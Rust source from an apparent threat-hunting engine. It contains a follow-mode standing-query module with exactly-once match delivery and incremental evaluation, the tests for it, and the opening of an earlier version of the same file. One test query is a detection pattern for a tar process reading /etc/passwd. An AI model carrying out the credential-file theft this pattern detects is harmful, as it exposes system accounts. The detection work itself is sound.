        assert_eq!(snapshot.reduction(), batch.reduction);

        let got = service.hunt(FIG2_TBQL).unwrap();
        let want = threatraptor_engine::Engine::new(&batch)
            .hunt(FIG2_TBQL)
            .unwrap();
        assert_eq!(got.rows, want.rows);
    }

    #[test]
    fn hunts_mid_ingest_see_consistent_prefixes() {
        let sc = scenario();
        let service = IngestService::new(IngestConfig::with_policy(SealPolicy::events(400)));
        let mut counts = Vec::new();
        for chunk in LogFeed::by_events(&sc.raw, 800) {
            service.append(&chunk.unwrap());
            let r = service.hunt(FIG2_TBQL).unwrap();
            counts.push(r.matches.len());
        }
        // The attack eventually appears and stays found.
        assert!(*counts.last().unwrap() > 0);
        let status = service.status();
        assert!(status.sealed_shards > 0);
        assert_eq!(status.total_events, status.reduction.after,);
    }

    #[test]
    fn appends_proceed_while_a_snapshot_is_held() {
        let sc = scenario();
        let service = IngestService::new(IngestConfig::default());
        let mut feed = LogFeed::by_events(&sc.raw, 1_000);
        service.append(&feed.next().unwrap().unwrap());
        let held: ShardedStore = service.snapshot();
        let held_count = held.event_count();
        for chunk in feed {
            service.append(&chunk.unwrap());
        }
        // The held snapshot is unaffected; new snapshots see everything.
        assert_eq!(held.event_count(), held_count);
        assert!(service.snapshot().event_count() > held_count);
    }

    #[test]
    fn follow_hunt_fires_when_the_attack_streams_in() {
        let sc = scenario();
        let service = IngestService::new(IngestConfig::with_policy(SealPolicy::events(400)));
        let (mut hunt, initial) = service.hunt_follow(FIG2_TBQL).unwrap();
        assert!(initial.is_empty(), "nothing ingested yet");

        let mut fired = false;
        for chunk in LogFeed::by_events(&sc.raw, 700) {
            service.append(&chunk.unwrap());
            let delta = service.poll(&mut hunt).unwrap();
            fired |= !delta.is_empty();
        }
        assert!(fired, "the streamed attack must fire the standing query");
        // A poll with no new data is free.
        let idle = service.poll(&mut hunt).unwrap();
        assert!(idle.unchanged);
        // And the plan was compiled exactly once.
        assert_eq!(service.cache_stats().misses, 1);
    }

    #[test]
    fn concurrent_appends_and_hunts_are_safe() {
        let sc = scenario();
        let service = IngestService::new(IngestConfig::with_policy(SealPolicy::events(300)));
        let chunks: Vec<_> = LogFeed::by_events(&sc.raw, 250)
            .map(|c| c.unwrap())
            .collect();
        std::thread::scope(|scope| {
            let svc = &service;
            let writer = scope.spawn(move || {
                for chunk in &chunks {
                    svc.append(chunk);
                }
            });
            for _ in 0..8 {
                // Hunts interleave with appends; each must see a
                // consistent snapshot and never error.
                let r = svc.hunt(FIG2_TBQL).unwrap();
                let snap = svc.snapshot();
                assert!(r.matches.len() <= snap.event_count().max(1));
            }
            writer.join().unwrap();
        });
        // After the dust settles, the full attack is found.
        assert!(!service.hunt(FIG2_TBQL).unwrap().is_empty());
    }
}
