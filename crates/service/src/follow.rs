//! Follow-mode hunts: a standing query over a growing store.
//!
//! A batch hunt answers "did this behavior happen in the log I have?";
//! a follow-mode hunt answers "tell me *when it appears*" while audit
//! data keeps streaming in. A [`FollowHunt`] pins one compiled plan and
//! is polled with successive store snapshots (epoch views from
//! [`threatraptor_storage::StreamingStore`], via
//! [`crate::ingest::IngestService`]):
//!
//! * a poll against an unchanged store (same raw-event high-water mark)
//!   is free — no execution at all;
//! * otherwise the cached plan is re-executed against the snapshot
//!   (compilation is never repeated; sealed shards are shared, only the
//!   open window was re-indexed by the snapshot) and the **delta** —
//!   matches not seen by any earlier poll — is extracted and merged into
//!   the running result;
//! * matches are identified by their bindings plus the **CPR run
//!   identity** of their witnesses — entity pair, operation, and the
//!   run's start time — which is stable across CPR merging (a merged
//!   run keeps its first constituent's start time, and ties at the same
//!   start share it by definition), across seals, and across
//!   shard-layout changes — so re-found matches do not duplicate.
//!
//! The running result is append-only, like a streaming alert feed:
//! matches are never retracted. Delivery is **exactly-once** per match
//! identity, including under start-time ties at the ingest frontier: a
//! match witnessed by a *provisional* open-window event is reported with
//! the event's state as of that poll, and neither the run absorbing
//! later constituents nor a same-start-time newcomer re-leading the run
//! (which changes the merged event's *id* but never its run identity)
//! re-fires it. The flip side of identity-keyed delivery: two distinct
//! events with the same entity pair, operation, and start time count as
//! one behavior instance and alert once.
//!
//! ## Incremental evaluation
//!
//! Polls run through the engine's delta path
//! ([`threatraptor_engine::DeltaState`]) whenever the snapshot carries a
//! [`StreamFrontier`] and the plan supports it (event patterns only):
//! the poll scans just the epoch delta — newly sealed rows plus the
//! open window — and joins the fresh rows against **retained partial
//! bindings** over the stable prefix, so steady-state cost is O(delta)
//! rather than O(store). Re-led open-window runs need no re-validation:
//! the open window is entirely above the stable frontier and is
//! re-scanned every poll. The hunt falls back to full re-execution on
//! discontinuity (raw or sealed frontier regression — retained state is
//! invalidated first), on batch snapshots without a frontier, and for
//! path-pattern plans; the first poll is by construction a from-zero
//! scan through the same delta code path.
//!
//! Retained state is **watermark-bounded**. Each poll ages, against the
//! frontier's settled bound (`min(watermark, earliest open start)` — no
//! future fresh row can start earlier):
//!
//! * *partials* whose feasible completion deadline (the next scheduled
//!   pattern's DBM-tightened `[lo, hi]` upper bound, clamped further by
//!   `before` constraints against bound patterns) has passed;
//! * *delivered-match witnesses* (`seen`) whose newest witness run
//!   starts before the settled bound — such a match can never be
//!   re-found by a delta poll, so its dedup entry is dead weight;
//! * on a **drained** query (every pattern's feasible window closed
//!   below the settled bound), all dedup state including the
//!   distinct-row history — no new match can ever form.
//!
//! Queries with unbounded patterns retain partials and distinct-row
//! history indefinitely (their semantics require it); `seen` still ages.
//!
//! [`StreamFrontier`]: threatraptor_storage::StreamFrontier

use crate::cache::CachedPlan;
use crate::job::ServiceError;
use std::collections::HashSet;
use std::sync::Arc;
use std::time::{Duration, Instant};
use threatraptor_audit::entity::EntityId;
use threatraptor_audit::event::Operation;
use threatraptor_engine::result::{DeltaStats, HuntStats, Match};
use threatraptor_engine::{DeltaState, ExecMode, HuntResult, ShardedEngine};
use threatraptor_obs::{Counter, Gauge, Registry};
use threatraptor_storage::ShardedStore;

/// Stable identity of one witnessing event: the CPR *run identity* —
/// entity pair, operation, and the run's start time. An open run's
/// *event id* is not delivery-stable: a later chunk can deliver a
/// same-start-time tie that sorts ahead of the provisional leader and
/// re-leads the merged run under the newcomer's id. The run's start time
/// cannot change that way (ties share it), so this key survives
/// re-leading where the first-constituent id does not.
type WitnessKey = (EntityId, EntityId, Operation, u64);

/// Stable identity of a match: sorted variable bindings plus, per
/// pattern, the run identities of its witnessing events.
type MatchKey = (Vec<(String, EntityId)>, Vec<(String, Vec<WitnessKey>)>);

fn match_key(m: &Match, store: &ShardedStore) -> MatchKey {
    let mut bindings: Vec<(String, EntityId)> = m
        .bindings
        .iter()
        .map(|(var, &id)| (var.clone(), id))
        .collect();
    bindings.sort();
    let mut events: Vec<(String, Vec<WitnessKey>)> = m
        .events
        .iter()
        .map(|(pat, positions)| {
            (
                pat.clone(),
                positions
                    .iter()
                    .map(|&p| {
                        let e = store.event_at(p);
                        #[cfg(not(check_mutants))]
                        let key = (e.subject, e.object, e.op, e.start);
                        // Seeded bug (mutant CI job): key the witness by
                        // its leading event id instead of the run start.
                        // A same-start tie arriving later re-leads the
                        // merged run under a new id, so the same logical
                        // match refires — the exact exactly-once
                        // regression the dispatcher model must re-find.
                        #[cfg(check_mutants)]
                        let key = (e.subject, e.object, e.op, u64::from(e.id.0));
                        key
                    })
                    .collect(),
            )
        })
        .collect();
    events.sort();
    (bindings, events)
}

/// Accumulates one poll's engine statistics into the running result's:
/// `elapsed` and the per-pattern `rows_fetched` counters add up across
/// polls (events scanned is cumulative work, not a point-in-time value),
/// while `execution_order` reflects the latest execution.
fn merge_stats(running: &mut HuntStats, poll: &HuntStats) {
    running.execution_order = poll.execution_order.clone();
    running.elapsed += poll.elapsed;
    running.propagate_elapsed += poll.propagate_elapsed;
    running.join_elapsed += poll.join_elapsed;
    running.project_elapsed += poll.project_elapsed;
    for (pat, fetched) in &poll.rows_fetched {
        if let Some((_, total)) = running.rows_fetched.iter_mut().find(|(p, _)| p == pat) {
            *total += fetched;
        } else {
            running.rows_fetched.push((pat.clone(), *fetched));
        }
    }
    for (pat, elapsed) in &poll.pattern_elapsed {
        if let Some((_, total)) = running.pattern_elapsed.iter_mut().find(|(p, _)| p == pat) {
            *total += *elapsed;
        } else {
            running.pattern_elapsed.push((pat.clone(), *elapsed));
        }
    }
    // Delta actuals reflect the latest execution, like execution_order.
    running.delta = poll.delta;
}

/// Registry handles for follow-hunt telemetry. The counters are
/// *cumulative across the hunt's lifetime* and live in the registry,
/// not in any delivered [`FollowDelta`] — a subscriber that crashes
/// (or drops deltas) loses nothing: the totals remain scrapeable.
/// When several follow hunts share one registry the counters
/// aggregate across all of them.
#[derive(Debug, Clone)]
struct FollowObs {
    /// `follow_polls_total`: polls, including free unchanged ones.
    polls: Arc<Counter>,
    /// `follow_executions_total`: polls that actually re-executed.
    executions: Arc<Counter>,
    /// `follow_rows_scanned_total`: rows fetched across all patterns
    /// and executions.
    rows_scanned: Arc<Counter>,
    /// `follow_matches_total`: matches delivered (exactly-once).
    matches: Arc<Counter>,
    /// `follow_delta_polls_total`: executions through the delta path.
    delta_polls: Arc<Counter>,
    /// `follow_delta_rows_total`: rows scanned by delta-path polls
    /// (fresh-range plus carry scans).
    delta_rows: Arc<Counter>,
    /// `follow_full_fallback_total`: executions that scanned from
    /// position zero — first poll, discontinuity, or unsupported plan.
    fallbacks: Arc<Counter>,
    /// `follow_invalidated_total`: discontinuities that dropped state.
    invalidated: Arc<Counter>,
    /// `follow_partials_aged_total`: partials dropped by deadline
    /// passage.
    partials_aged: Arc<Counter>,
    /// `follow_dedup_aged_total`: dedup entries (`seen` witnesses and,
    /// on a drained query, distinct-row history) aged out.
    dedup_aged: Arc<Counter>,
    /// `follow_partials_retained`: retained partial bindings right now.
    partials_retained: Arc<Gauge>,
    /// For `follow_pattern_rows_total{pattern=...}` series.
    registry: Arc<Registry>,
}

/// What one poll produced.
#[derive(Debug, Clone, Default)]
pub struct FollowDelta {
    /// Matches first seen by this poll.
    pub new_matches: usize,
    /// Projected rows of the new matches (deduplicated against the
    /// running result when the query is `distinct`).
    pub rows: Vec<Vec<String>>,
    /// True when the store had not changed and execution was skipped.
    pub unchanged: bool,
    /// Wall-clock time of the whole poll — engine execution plus delta
    /// extraction, projection, and merge (≈ 0 when `unchanged`).
    pub elapsed: Duration,
    /// Incremental-execution actuals when this poll ran through the
    /// delta path (`None` for skipped polls and full re-executions).
    pub delta: Option<DeltaStats>,
}

impl FollowDelta {
    /// True when this poll surfaced nothing new.
    pub fn is_empty(&self) -> bool {
        self.new_matches == 0
    }
}

/// A standing hunt: one compiled plan plus the accumulated result of all
/// polls so far.
#[derive(Debug)]
pub struct FollowHunt {
    plan: Arc<CachedPlan>,
    mode: ExecMode,
    shard_threads: usize,
    seen: HashSet<MatchKey>,
    /// Distinct-row history: every projected row ever delivered, kept
    /// so `distinct` queries never repeat a row across polls. Cleared
    /// only when the query drains (every feasible window closed).
    known: HashSet<Vec<String>>,
    /// Retained incremental-evaluation state, `None` when the plan
    /// cannot run incrementally (path patterns).
    delta: Option<DeltaState>,
    /// Diagnostic switch: always re-execute in full (the oracle mode of
    /// the parity tests). Retained state is never aged in this mode.
    force_full: bool,
    result: Option<HuntResult>,
    /// Raw-event high-water mark (`reduction().before`) of the last
    /// snapshot polled; appends are the only way results can change, so
    /// an equal mark lets the poll skip execution entirely.
    last_raw: Option<usize>,
    polls: usize,
    /// Telemetry handles, when attached.
    obs: Option<FollowObs>,
}

impl FollowHunt {
    /// A follow hunt over an already compiled plan.
    pub fn new(plan: Arc<CachedPlan>, mode: ExecMode, shard_threads: usize) -> FollowHunt {
        let delta = DeltaState::new(&plan.compiled, mode);
        FollowHunt {
            plan,
            mode,
            shard_threads: shard_threads.max(1),
            seen: HashSet::new(),
            known: HashSet::new(),
            delta,
            force_full: false,
            result: None,
            last_raw: None,
            polls: 0,
            obs: None,
        }
    }

    /// Disables the incremental path: every poll is a full
    /// re-execution, and retained dedup state is never aged. This is
    /// the oracle the delta path is verified against
    /// (`tests/follow_parity.rs`) and a diagnostic escape hatch.
    pub fn with_full_reexecution(mut self) -> FollowHunt {
        self.force_full = true;
        self
    }

    /// Retained partial bindings carried across polls (0 when the plan
    /// runs non-incrementally).
    pub fn retained_partials(&self) -> usize {
        self.delta.as_ref().map_or(0, DeltaState::retained)
    }

    /// Delivered-match dedup entries currently held.
    pub fn dedup_entries(&self) -> usize {
        self.seen.len()
    }

    /// Distinct-row history entries currently held.
    pub fn known_rows(&self) -> usize {
        self.known.len()
    }

    /// Attaches cumulative telemetry to `registry`: `follow_*_total`
    /// counters bumped on every poll. Unlike the per-poll numbers in
    /// a delivered [`FollowDelta`], these totals survive a subscriber
    /// crash — they live in the registry, not in the delivery channel.
    pub fn attach_metrics(&mut self, registry: &Arc<Registry>) {
        self.obs = Some(FollowObs {
            polls: registry.counter("follow_polls_total"),
            executions: registry.counter("follow_executions_total"),
            rows_scanned: registry.counter("follow_rows_scanned_total"),
            matches: registry.counter("follow_matches_total"),
            delta_polls: registry.counter("follow_delta_polls_total"),
            delta_rows: registry.counter("follow_delta_rows_total"),
            fallbacks: registry.counter("follow_full_fallback_total"),
            invalidated: registry.counter("follow_invalidated_total"),
            partials_aged: registry.counter("follow_partials_aged_total"),
            dedup_aged: registry.counter("follow_dedup_aged_total"),
            partials_retained: registry.gauge("follow_partials_retained"),
            registry: Arc::clone(registry),
        });
    }

    /// The canonical TBQL text of the standing query.
    pub fn tbql(&self) -> &str {
        &self.plan.tbql
    }

    /// Number of polls so far (including skipped ones).
    pub fn polls(&self) -> usize {
        self.polls
    }

    /// The running merged result, or `None` before the first poll.
    pub fn result(&self) -> Option<&HuntResult> {
        self.result.as_ref()
    }

    /// Evaluates the standing query against a snapshot and merges the
    /// delta into the running result. Snapshots must come from one
    /// growing store (polling across unrelated stores invalidates the
    /// retained state and re-delivers from scratch).
    pub fn poll(&mut self, snapshot: &ShardedStore) -> Result<FollowDelta, ServiceError> {
        self.polls += 1;
        if let Some(obs) = &self.obs {
            obs.polls.inc();
        }
        let t0 = Instant::now();
        let raw = snapshot.reduction().before;
        if self.last_raw == Some(raw) {
            return Ok(FollowDelta {
                unchanged: true,
                ..FollowDelta::default()
            });
        }

        let plan = Arc::clone(&self.plan);
        let cq = &plan.compiled;
        let engine = ShardedEngine::with_threads(snapshot, self.shard_threads);
        let frontier = snapshot.frontier();

        // Snapshot discontinuity: the raw high-water mark or the sealed
        // frontier regressed — this is not the store we were following.
        // Drop retained partials; the next execution scans from zero.
        // (Dedup state is kept: already-delivered identities stay
        // delivered, though entries aged out earlier may re-fire across
        // a discontinuity.)
        let regressed = self.last_raw.is_some_and(|prev| raw < prev)
            || self
                .delta
                .as_ref()
                .zip(frontier)
                .is_some_and(|(d, f)| f.sealed_events < d.stable_events());
        if regressed {
            if let Some(d) = &mut self.delta {
                d.invalidate();
            }
            if let Some(obs) = &self.obs {
                obs.invalidated.inc();
            }
        }

        // Delta path when the snapshot exposes a frontier and the plan
        // supports it; full re-execution otherwise. A delta poll with
        // `fresh_from == 0` (first poll, post-discontinuity) *is* the
        // full re-execution — same scans, same joins — so the fallback
        // counter treats both uniformly as from-zero scans.
        let use_delta = !self.force_full && frontier.is_some();
        let full = match (use_delta, &mut self.delta, frontier) {
            (true, Some(state), Some(f)) => state.poll(&engine, cq, self.mode, f.sealed_events),
            _ => engine.execute(cq, self.mode).map_err(ServiceError::from)?,
        };
        self.last_raw = Some(raw);
        let delta_stats = full.stats.delta;

        // Extract the delta: matches no earlier poll has seen.
        let delta_matches: Vec<Match> = full
            .matches
            .iter()
            .filter(|m| self.seen.insert(match_key(m, snapshot)))
            .cloned()
            .collect();
        let (columns, mut delta_rows) = engine.project(cq, &delta_matches);

        // Merge into the running result. Stats accumulate (per-pattern
        // scan counters and elapsed sum across polls) rather than being
        // overwritten by the latest execution's point-in-time values.
        let running = self.result.get_or_insert_with(|| HuntResult {
            columns,
            rows: Vec::new(),
            matches: Vec::new(),
            stats: HuntStats::default(),
        });
        merge_stats(&mut running.stats, &full.stats);
        if cq.distinct {
            // Projection deduped within the delta; dedup against the
            // persistent history so the running rows stay a distinct
            // set without rescanning them every poll.
            delta_rows.retain(|r| self.known.insert(r.clone()));
        }
        let new_matches = delta_matches.len();
        running.matches.extend(delta_matches);
        let rows = delta_rows.clone();
        running.rows.extend(delta_rows);

        // Age retained state by the stream's settled bound: no future
        // fresh row can start below it. Only meaningful on the delta
        // path — a forced-full hunt re-finds old matches every poll and
        // must keep its dedup history complete.
        let mut aged_partials = 0usize;
        let mut aged_dedup = 0usize;
        if delta_stats.is_some() {
            if let Some(f) = frontier {
                let settled = f.settled_before();
                let before = self.seen.len();
                self.seen.retain(|key| {
                    key.1
                        .iter()
                        .flat_map(|(_, ws)| ws.iter().map(|w| w.3))
                        .max()
                        .is_none_or(|newest_start| newest_start >= settled)
                });
                aged_dedup = before - self.seen.len();
                if let Some(state) = &mut self.delta {
                    aged_partials = state.age(cq, settled);
                }
                // Drained query: every pattern's feasible window closed
                // below the settled bound — no new match can ever form,
                // so even the distinct-row history is dead.
                let drained = cq
                    .patterns
                    .iter()
                    .all(|p| p.bounds.or(p.window).is_some_and(|b| b.hi < settled));
                if drained {
                    aged_dedup += self.seen.len() + self.known.len();
                    self.seen.clear();
                    self.known.clear();
                }
            }
        }

        if let Some(obs) = &self.obs {
            obs.executions.inc();
            obs.rows_scanned.add(full.stats.total_rows() as u64);
            obs.matches.add(new_matches as u64);
            match &delta_stats {
                Some(d) => {
                    obs.delta_polls.inc();
                    obs.delta_rows.add((d.fresh_rows + d.carry_rows) as u64);
                    if d.fresh_from == 0 {
                        obs.fallbacks.inc();
                    }
                }
                None => obs.fallbacks.inc(),
            }
            obs.partials_aged.add(aged_partials as u64);
            obs.dedup_aged.add(aged_dedup as u64);
            obs.partials_retained
                .set(self.delta.as_ref().map_or(0, DeltaState::retained) as i64);
            for (pat, fetched) in &full.stats.rows_fetched {
                obs.registry
                    .counter_labeled("follow_pattern_rows_total", &[("pattern", pat)])
                    .add(*fetched as u64);
            }
        }

        Ok(FollowDelta {
            new_matches,
            rows,
            unchanged: false,
            elapsed: t0.elapsed(),
            delta: delta_stats,
        })
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::cache::PlanCache;
    use threatraptor_audit::sim::scenario::{AttackKind, ScenarioBuilder};
    use threatraptor_storage::{SealPolicy, StreamingStore};
    use threatraptor_tbql::parser::FIG2_TBQL;

    fn follow(tbql: &str) -> FollowHunt {
        let cache = PlanCache::new();
        let (plan, _) = cache.plan(tbql).unwrap();
        FollowHunt::new(plan, ExecMode::Scheduled, 1)
    }

    #[test]
    fn attack_appears_as_a_delta_then_never_refires() {
        let sc = ScenarioBuilder::new()
            .seed(42)
            .attacks(&[AttackKind::DataLeakage])
            .target_events(4_000)
            .build();
        let mut store = StreamingStore::new(true, SealPolicy::events(400));
        let mut hunt = follow(FIG2_TBQL);

        let mut total = 0usize;
        let mut fired_at = None;
        store.append_batch(&sc.log.entities, &[]);
        for (i, batch) in sc.log.events.chunks(500).enumerate() {
            store.append_batch(&[], batch);
            let delta = hunt.poll(&store.snapshot()).unwrap();
            assert!(!delta.unchanged);
            if !delta.is_empty() && fired_at.is_none() {
                fired_at = Some(i);
            }
            total += delta.new_matches;
        }
        assert!(fired_at.is_some(), "the attack must surface mid-stream");
        assert!(total > 0);

        // The final running result agrees with a from-scratch batch hunt.
        let batch = ShardedEngine::new(&store.snapshot())
            .hunt(FIG2_TBQL)
            .unwrap();
        let result = hunt.result().unwrap();
        assert_eq!(result.matches.len(), batch.matches.len());
        let norm = |rows: &[Vec<String>]| {
            let mut r = rows.to_vec();
            r.sort();
            r
        };
        assert_eq!(norm(&result.rows), norm(&batch.rows));
    }

    #[test]
    fn unchanged_snapshots_skip_execution() {
        let sc = ScenarioBuilder::new().seed(7).target_events(1_000).build();
        let mut store = StreamingStore::new(true, SealPolicy::manual());
        store.append_batch(&sc.log.entities, &sc.log.events);
        let mut hunt = follow(FIG2_TBQL);

        let first = hunt.poll(&store.snapshot()).unwrap();
        assert!(!first.unchanged);
        let second = hunt.poll(&store.snapshot()).unwrap();
        assert!(second.unchanged, "no appends → poll must be free");
        assert!(second.is_empty());
        assert_eq!(hunt.polls(), 2);
    }

    /// Regression (ISSUE 5 headline): a same-start-time tie arriving in a
    /// later chunk can sort ahead of the provisional open-window witness
    /// and re-lead the merged run under the newcomer's event id. With
    /// id-keyed match identity that re-keyed — and re-fired — an already
    /// delivered match; run-identity keying must deliver exactly once.
    #[test]
    fn same_start_ties_do_not_refire_delivered_matches() {
        use threatraptor_audit::entity::Entity;
        use threatraptor_audit::event::{Event, EventId, Operation};

        let entities = ScenarioBuilder::new()
            .seed(1)
            .target_events(50)
            .build()
            .log
            .entities;
        let proc_id = entities
            .iter()
            .find_map(|e| matches!(e, Entity::Process(_)).then(|| e.id()))
            .expect("scenario has a process");
        let file_id = entities
            .iter()
            .find_map(|e| matches!(e, Entity::File(_)).then(|| e.id()))
            .expect("scenario has a file");
        let read = |id: u32, start: u64, end: u64| Event {
            id: EventId(id),
            subject: proc_id,
            op: Operation::Read,
            object: file_id,
            start,
            end,
            bytes: 8,
            merged: 1,
            tag: None,
        };

        let mut store = StreamingStore::new(true, SealPolicy::manual());
        store.append_batch(&entities, &[]);
        let mut hunt = follow("proc p read file f return p, f");

        // Chunk 1: a provisional open-window witness at t=100.
        store.append_batch(&[], &[read(50, 100, 110)]);
        let first = hunt.poll(&store.snapshot()).unwrap();
        assert_eq!(first.new_matches, 1, "the read must fire once");

        // Chunk 2: an equal-start tie with a smaller (end, id) sort key —
        // it re-leads the merged run, changing the run's event id from 50
        // to 60. The run identity (pair, op, start) is unchanged.
        store.append_batch(&[], &[read(60, 100, 105)]);
        let snapshot = store.snapshot();
        let merged = (0..snapshot.event_count())
            .map(|p| snapshot.event_at(p))
            .find(|e| e.subject == proc_id && e.object == file_id)
            .expect("the tied reads merged into one run");
        assert_eq!(merged.id, EventId(60), "the newcomer re-led the run");
        assert_eq!(merged.merged, 2);
        let second = hunt.poll(&snapshot).unwrap();
        assert_eq!(
            second.new_matches, 0,
            "a re-led run must not re-fire its delivered match"
        );

        // Chunk 3: another re-leading tie, this time across a poll that
        // also seals — still no duplicate.
        store.append_batch(&[], &[read(40, 100, 103)]);
        let third = hunt.poll(&store.snapshot()).unwrap();
        assert_eq!(third.new_matches, 0, "third tie must not re-fire either");

        // The running result agrees with a from-scratch batch hunt.
        let batch = ShardedEngine::new(&store.snapshot())
            .hunt("proc p read file f return p, f")
            .unwrap();
        let matched: Vec<_> = hunt
            .result()
            .unwrap()
            .matches
            .iter()
            .filter(|m| m.bindings.values().any(|&id| id == proc_id))
            .collect();
        let batch_matched = batch
            .matches
            .iter()
            .filter(|m| m.bindings.values().any(|&id| id == proc_id))
            .count();
        assert_eq!(matched.len(), batch_matched);
    }

    /// Cumulative counters survive merges: per-pattern scan counts add up
    /// across polls instead of being overwritten by the latest execution,
    /// and the delta's elapsed covers the whole poll.
    #[test]
    fn running_stats_accumulate_across_polls() {
        let sc = ScenarioBuilder::new()
            .seed(42)
            .attacks(&[AttackKind::DataLeakage])
            .target_events(3_000)
            .build();
        let mut store = StreamingStore::new(true, SealPolicy::events(400));
        // Forced-full oracle mode: the per-poll comparison below runs a
        // solo *full* execution, so the hunt must match its scan counts.
        let mut hunt = follow(FIG2_TBQL).with_full_reexecution();
        store.append_batch(&sc.log.entities, &[]);

        let mut per_poll_fetched = Vec::new();
        let mut summed_elapsed = Duration::ZERO;
        for batch in sc.log.events.chunks(600) {
            store.append_batch(&[], batch);
            let snapshot = store.snapshot();
            let engine = ShardedEngine::with_threads(&snapshot, 1);
            let plan = PlanCache::new().plan(FIG2_TBQL).unwrap().0;
            let solo = engine.execute(&plan.compiled, ExecMode::Scheduled).unwrap();
            per_poll_fetched.push(solo.stats.rows_fetched);
            let delta = hunt.poll(&snapshot).unwrap();
            assert!(
                delta.elapsed >= solo.stats.elapsed / 8,
                "delta elapsed must measure the poll, not be zeroed"
            );
            summed_elapsed += delta.elapsed;
        }

        let running = hunt.result().unwrap();
        // Each pattern's running counter is the sum over all polls.
        for (pat, total) in &running.stats.rows_fetched {
            let want: usize = per_poll_fetched
                .iter()
                .flatten()
                .filter(|(p, _)| p == pat)
                .map(|(_, n)| n)
                .sum();
            assert_eq!(total, &want, "pattern {pat} must accumulate");
            let last_poll: usize = per_poll_fetched
                .last()
                .unwrap()
                .iter()
                .filter(|(p, _)| p == pat)
                .map(|(_, n)| n)
                .sum();
            assert!(total >= &last_poll);
        }
        // Elapsed accumulates execution time across polls; it can only
        // have grown past any single execution.
        assert!(running.stats.elapsed <= summed_elapsed);
        assert!(running.stats.elapsed > Duration::ZERO);
    }

    /// Satellite (ISSUE 6): cumulative scan counters are exposed via
    /// the registry, so dropping every delivered delta (a crashed
    /// subscriber) loses nothing.
    #[test]
    fn registry_counters_survive_dropped_deltas() {
        let sc = ScenarioBuilder::new()
            .seed(42)
            .attacks(&[AttackKind::DataLeakage])
            .target_events(2_000)
            .build();
        let registry = Arc::new(Registry::new());
        let mut store = StreamingStore::new(true, SealPolicy::events(300));
        let mut hunt = follow(FIG2_TBQL);
        hunt.attach_metrics(&registry);
        store.append_batch(&sc.log.entities, &[]);

        for batch in sc.log.events.chunks(500) {
            store.append_batch(&[], batch);
            // Delta dropped on the floor — totals must not be lost.
            let _ = hunt.poll(&store.snapshot()).unwrap();
        }
        // One extra unchanged poll: counted as a poll, not an execution.
        let _ = hunt.poll(&store.snapshot()).unwrap();

        let snap = registry.snapshot();
        let polls = snap.counter("follow_polls_total").unwrap();
        let execs = snap.counter("follow_executions_total").unwrap();
        assert_eq!(polls, hunt.polls() as u64);
        assert_eq!(execs, polls - 1);
        let running = hunt.result().unwrap();
        assert_eq!(
            snap.counter("follow_rows_scanned_total").unwrap(),
            running.stats.total_rows() as u64
        );
        assert_eq!(
            snap.counter("follow_matches_total").unwrap(),
            running.matches.len() as u64
        );
        // Per-pattern series mirror the running per-pattern counters.
        for (pat, total) in &running.stats.rows_fetched {
            let sample = snap
                .get("follow_pattern_rows_total", &[("pattern", pat)])
                .unwrap_or_else(|| panic!("missing series for {pat}"));
            assert_eq!(
                sample.value,
                threatraptor_obs::SampleValue::Counter(*total as u64)
            );
        }
    }

    #[test]
    fn distinct_rows_stay_distinct_across_polls() {
        let sc = ScenarioBuilder::new()
            .seed(42)
            .attacks(&[AttackKind::DataLeakage])
            .target_events(3_000)
            .build();
        let q = "proc p[\"%/bin/tar%\"] read file f[\"%/etc/passwd%\"] as e1\nreturn distinct p, f";
        let mut store = StreamingStore::new(true, SealPolicy::events(300));
        let mut hunt = follow(q);
        store.append_batch(&sc.log.entities, &[]);
        for batch in sc.log.events.chunks(400) {
            store.append_batch(&[], batch);
            hunt.poll(&store.snapshot()).unwrap();
        }
        let rows = &hunt.result().unwrap().rows;
        let mut deduped = rows.clone();
        deduped.sort();
        deduped.dedup();
        assert_eq!(rows.len(), deduped.len(), "distinct rows must not repeat");
        assert!(!rows.is_empty());
    }
}
