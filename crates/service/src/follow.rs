//! Follow-mode hunts: a standing query over a growing store.
//!
//! A batch hunt answers "did this behavior happen in the log I have?";
//! a follow-mode hunt answers "tell me *when it appears*" while audit
//! data keeps streaming in. A [`FollowHunt`] pins one compiled plan and
//! is polled with successive store snapshots (epoch views from
//! [`threatraptor_storage::StreamingStore`], via
//! [`crate::ingest::IngestService`]):
//!
//! * a poll against an unchanged store (same raw-event high-water mark)
//!   is free — no execution at all;
//! * otherwise the cached plan is re-executed against the snapshot
//!   (compilation is never repeated; sealed shards are shared, only the
//!   open window was re-indexed by the snapshot) and the **delta** —
//!   matches not seen by any earlier poll — is extracted and merged into
//!   the running result;
//! * matches are identified by their bindings plus the *original* event
//!   ids of their witnesses, which are stable across CPR merging (a
//!   merged event keeps its first constituent's id), across seals, and
//!   across shard-layout changes — so re-found matches do not duplicate.
//!
//! The running result is append-only, like a streaming alert feed:
//! matches are never retracted. Delivery semantics follow from
//! incremental CPR at the frontier: matches whose witnesses are sealed
//! or closed are reported **exactly once**. A match witnessed by a
//! *provisional* open-window event is reported with the event's state as
//! of that poll; the event absorbing later constituents does not re-fire
//! it (the id stays the first constituent's). The one corner where a
//! duplicate is possible: a later chunk delivers an event with the
//! *exact same start time* on the same entity pair that sorts ahead of
//! the provisional witness — the merged run is then re-led by the
//! newcomer's id, re-keying the match. Frontier delivery is therefore
//! at-least-once under start-time ties, exactly-once otherwise.

use crate::cache::CachedPlan;
use crate::job::ServiceError;
use std::collections::HashSet;
use std::sync::Arc;
use std::time::Duration;
use threatraptor_audit::entity::EntityId;
use threatraptor_audit::event::EventId;
use threatraptor_engine::result::Match;
use threatraptor_engine::{ExecMode, HuntResult, ShardedEngine};
use threatraptor_storage::ShardedStore;

/// Stable identity of a match: sorted variable bindings plus, per
/// pattern, the original (CPR-stable) ids of its witnessing events.
type MatchKey = (Vec<(String, EntityId)>, Vec<(String, Vec<EventId>)>);

fn match_key(m: &Match, store: &ShardedStore) -> MatchKey {
    let mut bindings: Vec<(String, EntityId)> = m
        .bindings
        .iter()
        .map(|(var, &id)| (var.clone(), id))
        .collect();
    bindings.sort();
    let mut events: Vec<(String, Vec<EventId>)> = m
        .events
        .iter()
        .map(|(pat, positions)| {
            (
                pat.clone(),
                positions.iter().map(|&p| store.event_at(p).id).collect(),
            )
        })
        .collect();
    events.sort();
    (bindings, events)
}

/// What one poll produced.
#[derive(Debug, Clone, Default)]
pub struct FollowDelta {
    /// Matches first seen by this poll.
    pub new_matches: usize,
    /// Projected rows of the new matches (deduplicated against the
    /// running result when the query is `distinct`).
